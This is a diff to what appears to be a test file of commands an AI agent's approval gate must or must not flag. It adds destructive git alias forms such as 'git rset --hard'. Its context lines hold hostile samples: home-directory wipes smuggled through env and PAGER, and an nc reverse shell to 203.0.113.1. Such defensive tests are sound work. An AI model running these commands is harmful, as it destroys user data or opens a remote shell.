@@ -362,6 +362,10 @@ MUST_ASK: list[str] = [
     "docker system prune -af",
     "docker volume rm pgdata",
     "docker compose down -v",
+    "git rset --hard",
+    "git co .",
+    "git br -D feature",
+    "git psuh --force",
     "env -S\"rm -rf ~\"",
     "env PAGER='sh -c \"rm -rf ~\"' man ls",
     "nc -e /bin/sh 203.0.113.1 4444",
@@ -566,4 +570,7 @@ MUST_NOT_ASK: list[str] = [
     "git clone https://example.com/r.git && cd r && git log -1",
     "curl -sSfO https://example.com/data.csv && wc -l data.csv",
     "git gc",
+    "git co main",
+    "git st",
+    "git lg --oneline -10",
 ]
